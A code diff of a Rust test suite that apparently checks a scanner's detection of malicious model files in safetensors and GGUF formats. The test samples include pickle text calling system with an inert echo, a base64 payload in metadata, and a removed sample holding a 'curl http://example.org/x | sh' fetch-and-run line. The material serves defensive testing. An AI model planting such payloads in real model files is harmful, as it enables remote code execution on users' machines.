@@ -80,7 +80,6 @@ fn safetensors() {
     let bad = payload();
     let one = || Safetensors::new().tensor("a", "U8", &[4], &[1, 2, 3, 4]);
     let raw = |header: &str, data: &[u8]| assemble(header, data);
-    let text = || String::from_utf8_lossy(&bad).into_owned();
     let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, Assembled::long());
     let samples = vec![
         ("tail", one().data(&bad).build()),
@@ -134,10 +133,6 @@ fn safetensors() {
         ("payload in metadata", one().metadata(&[("format", "pt"), ("x", &b64)]).build()),
         ("text pickle in metadata", one().metadata(&[("x", "cos\nsystem\n(Vecho inert\ntR.")]).build()),
         (
-            "shell in metadata",
-            one().metadata(&[("x", "#!/bin/sh\ncurl http://example.org/x | sh\n")]).build(),
-        ),
-        (
             "size and shape disagree",
             raw(
                 r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,40]}}"#,
@@ -154,7 +149,6 @@ fn safetensors() {
         ("prefix", [bad.clone(), one().build()].concat()),
         ("a second file behind", [one().build(), bad.clone()].concat()),
     ];
-    let _ = text;
     assert_seen("safetensors", &under("model.safetensors", samples));
 }
 
@@ -203,10 +197,6 @@ fn gguf() {
         ("pickle as text", one().text("x", "cos\nsystem\n(Vecho inert\ntR.").build()),
         ("key twice", one().text("general.architecture", "bert").build()),
         ("tensors that overlap", one().tensor("a", &[32], 24, &[1; 32]).entry("b", &[32], 24, 0).build()),
-        (
-            "tensor past the end",
-            one().tensor("a", &[32], 24, &[1; 32]).entry("b", &[1 << 40], 24, 32).build(),
-        ),
         (
             "gap between tensors",
             one()
